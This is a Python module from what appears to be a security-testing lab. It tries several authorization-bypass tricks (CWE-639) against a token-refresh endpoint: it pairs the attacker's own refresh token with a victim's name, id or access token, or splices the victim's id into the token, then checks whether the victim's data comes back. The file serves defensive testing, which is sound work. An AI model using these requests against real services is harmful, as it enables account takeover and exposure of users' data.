"""Renew with your own refresh token, as somebody else.

Exploits a server that checks the token, and then lets something that stands beside it say whose
tokens it gives: a name, an id, or the access token that is to be replaced.
Source: CWE-639 Authorization Bypass Through User-Controlled Key,
https://cwe.mitre.org/data/definitions/639.html
ASVS: 15.3.7
"""

from collections.abc import Iterator

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, breakdown, got_in
from attacks.lab.target import Person, Target


def tricks(target: Target, victim: Person) -> Iterator[tuple[str, httpx.Request]]:
    """Put what says who the victim is beside a new token of the attacker's own, or into it."""

    def own() -> str:
        return target.refresh_token_of(target.attacker)

    tokens = target.tokens_of(victim)
    access, its_log_in = tokens["access_token"], str(tokens.get("refresh_token")).split(".")[0]
    subject, password = target.subject_of(victim), target.attacker.password
    names = {"username": victim.username, "password": password}
    ids = {"sub": subject, "user_id": subject, "id": subject}
    yield "a name beside it", target.refresh_request(own(), {"username": victim.username})
    yield "a name and a password beside it", target.refresh_request(own(), names)
    yield "an id beside it", target.refresh_request(own(), ids)
    yield "an access token beside it", target.refresh_request(own(), {"access_token": access})
    yield "an access token in the header", target.refresh_request(own(), bearer=access)
    for trick, first in {"of the victim": subject, "of the victim's log-in": its_log_in}.items():
        secret = own().partition(".")[2]
        yield f"the id {trick} in it", target.refresh_request(f"{first}.{secret}")


@attack()
def run(target: Target) -> Outcome:
    """Try one trick after the other, and see whom the data then greets."""
    victim = target.enrol()
    answers = {}
    for trick, request in tricks(target, victim):
        answer = answers[trick] = target.http.send(request)
        if answer.is_success and victim.username in target.read(answer.json()["access_token"]).text:
            return got_in(f"{trick}: the victim's data")
    return breakdown(answers, f"{len(answers)} tricks: no tokens about the victim")
